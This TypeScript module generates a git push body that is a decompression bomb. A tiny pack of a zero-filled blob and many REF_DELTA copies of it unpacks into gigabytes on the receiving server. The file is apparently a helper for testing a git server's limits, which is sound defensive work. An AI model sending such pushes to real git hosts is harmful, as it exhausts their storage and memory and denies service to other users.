/**
 * A push that is small and unpacks to much: a blob of zeros, and deltas that each make another one of it.
 */
import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';

const MiB = 1024 * 1024;
/** Types of objects in a pack. */
const COMMIT = 1;
const TREE = 2;
const BLOB = 3;
const REF_DELTA = 7;
/** The most that one instruction of a delta copies, in bytes. */
const COPY_MAX = 0xffffff;

export interface PackBomb {
  /** The body of a push that makes `refs/heads/<branch>`. */
  readonly body: Buffer;
  /** Bytes of all its objects. */
  readonly inflated: number;
}

/**
 * Makes one.
 * @param size bytes of each blob
 * @param deltas how many there are beside the first
 */
export function packBomb(branch: string, size: number, deltas: number): PackBomb {
  const zeros = deflateSync(Buffer.alloc(size), { level: 9 });
  const first = oidOf('blob', size, '');
  const objects = [Buffer.concat([objectHeader(BLOB, size), zeros])];
  const entries: [name: string, oid: Buffer][] = [['a', first]];
  for (let nth = 0; nth < deltas; nth += 1) {
    const end = String(nth).padStart(4, '0');
    const copies: Buffer[] = [];
    for (let at = 0; at < size; at += COPY_MAX) copies.push(copyOf(at, Math.min(COPY_MAX, size - at)));
    const delta = Buffer.concat([varint(size), varint(size + 4), ...copies, Buffer.from([4]), Buffer.from(end)]);
    objects.push(Buffer.concat([objectHeader(REF_DELTA, delta.length), first, deflateSync(delta)]));
    entries.push([`d${end}`, oidOf('blob', size, end)]);
  }
  const tree = Buffer.concat(entries.flatMap(([name, oid]) => [Buffer.from(`100644 ${name}\0`), oid]));
  const treeOid = hashOf('tree', tree);
  const who = 'a <a@b> 1 +0000';
  const commit = Buffer.from(`tree ${treeOid.toString('hex')}\nauthor ${who}\ncommitter ${who}\n\n${branch}\n`);
  for (const [type, data] of [
    [TREE, tree],
    [COMMIT, commit],
  ] as const)
    objects.push(Buffer.concat([objectHeader(type, data.length), deflateSync(data)]));
  const head = Buffer.alloc(12);
  head.write('PACK');
  head.writeUInt32BE(2, 4);
  head.writeUInt32BE(objects.length, 8);
  const pack = Buffer.concat([head, ...objects]);
  const oid = hashOf('commit', commit).toString('hex');
  const command = `${'0'.repeat(40)} ${oid} refs/heads/${branch}\0report-status`;
  const list = `${(command.length + 4).toString(16).padStart(4, '0')}${command}0000`;
  const body = Buffer.concat([Buffer.from(list), pack, createHash('sha1').update(pack).digest()]);
  return { body, inflated: (size + 4) * deltas + size };
}

/** The id of a blob of zeros with a text at its end. */
function oidOf(type: string, zeros: number, end: string): Buffer {
  const hash = createHash('sha1').update(`${type} ${zeros + end.length}\0`);
  const piece = Buffer.alloc(MiB);
  for (let left = zeros; left > 0; left -= MiB) hash.update(piece.subarray(0, Math.min(left, MiB)));
  return hash.update(end).digest();
}

function hashOf(type: string, data: Buffer): Buffer {
  return createHash('sha1').update(`${type} ${data.length}\0`).update(data).digest();
}

/** @see gitformat-pack(5), "size encoding" */
function objectHeader(type: number, size: number): Buffer {
  const bytes: number[] = [];
  let byte = (type << 4) | (size & 15);
  for (let rest = Math.floor(size / 16); ; rest = Math.floor(rest / 128)) {
    bytes.push(rest > 0 ? byte | 0x80 : byte);
    if (rest === 0) return Buffer.from(bytes);
    byte = rest & 0x7f;
  }
}

function varint(value: number): Buffer {
  const bytes: number[] = [];
  for (let rest = value; ; rest = Math.floor(rest / 128)) {
    bytes.push(rest > 0x7f ? (rest & 0x7f) | 0x80 : rest);
    if (rest <= 0x7f) return Buffer.from(bytes);
  }
}

/** An instruction that copies `length` bytes of the base from `at` on. */
function copyOf(at: number, length: number): Buffer {
  const bytes: number[] = [];
  let code = 0x80;
  for (const [nth, value] of [at, at >>> 8, at >>> 16, at >>> 24].entries()) {
    if ((value & 0xff) === 0) continue;
    code |= 1 << nth;
    bytes.push(value & 0xff);
  }
  for (const [nth, value] of [length, length >>> 8, length >>> 16].entries()) {
    if ((value & 0xff) === 0) continue;
    code |= 0x10 << nth;
    bytes.push(value & 0xff);
  }
  return Buffer.from([code, ...bytes]);
}
